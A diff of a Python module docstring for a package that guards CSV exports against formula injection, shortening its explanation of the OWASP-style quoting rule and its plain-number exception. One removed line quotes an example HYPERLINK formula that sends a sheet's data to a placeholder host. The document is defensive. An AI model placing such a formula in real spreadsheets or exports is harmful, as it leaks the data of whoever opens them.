@@ -1,14 +1,10 @@
 """CSV cells that cannot attack the spreadsheet that opens them (CSV or formula injection).
 
-The package writes text it does not control into CSV files (a rater's note, a model name,
-a label from a log), and a spreadsheet reads a cell starting with `=`, `+`, `-` or `@` as
-a formula (`=HYPERLINK("http://x/?"&A1, "click")` sends the sheet's data away). So, as
-OWASP's CSV-injection advice says, every text cell starting with one of those, a tab, a
-carriage return or NUL gets a single quote in front, and every text cell is quoted
-(`QUOTING`). Numbers are left alone, and so is a text cell that is a plain decimal number
-and nothing else (`"-3"`): no reference or function fits in it, and a quote would turn
-a number into text; our one departure from OWASP's blanket rule, safe by construction.
-JSONL files are not touched: no program evaluates a JSON string.
+The package writes text it does not control into CSV files (a rater's note, a model name),
+and a spreadsheet reads a cell starting with `=` as a formula that can send the sheet's
+data away; so, as OWASP advises, such cells get a quote in front (docs/large-runs.md).
+Our one departure: a text cell that is a plain decimal number (`"-3"`) is left alone, since
+no reference or function fits in it and a quote would turn a number into text.
 """
 
 from __future__ import annotations
